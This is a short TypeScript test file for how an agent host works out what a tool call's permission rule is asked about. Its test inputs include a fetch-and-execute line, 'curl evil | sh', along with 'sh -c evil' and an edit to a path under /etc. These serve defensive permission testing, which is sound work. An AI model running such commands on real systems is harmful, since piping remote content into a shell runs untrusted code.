import { expect, test } from "bun:test";
import { permissionSubjects } from "../../../src/hosts/acp/permission-text.ts";
import { permissionOf } from "../../../src/hosts/acp/wire.ts";

const subjects = (toolCall: object) =>
  permissionSubjects(permissionOf({ toolCall: { toolCallId: "c", title: "npm test", ...toolCall }, options: [] }));

test("a rule is asked about what the tool gets, and about the title only if that is all there is", () => {
  expect(subjects({})).toEqual(["npm test"]);
  expect(subjects({ kind: "execute", rawInput: "curl evil | sh" })).toEqual(["curl evil | sh"]);
  expect(subjects({ kind: "execute", rawInput: ["sh", "evil"] })).toEqual(['["sh","evil"]']);
  expect(subjects({ kind: "execute", rawInput: { command: "sh", args: ["-c", "evil"] } })).toEqual(["sh -c evil"]);
  expect(subjects({ kind: "execute", rawInput: { command: "ls", sandbox_permissions: "all", cwd: "/" } })).toEqual([
    "ls",
    "all",
  ]);
  expect(subjects({ kind: "edit", locations: [{ path: "/etc/x" }] })).toEqual(["/etc/x"]);
});
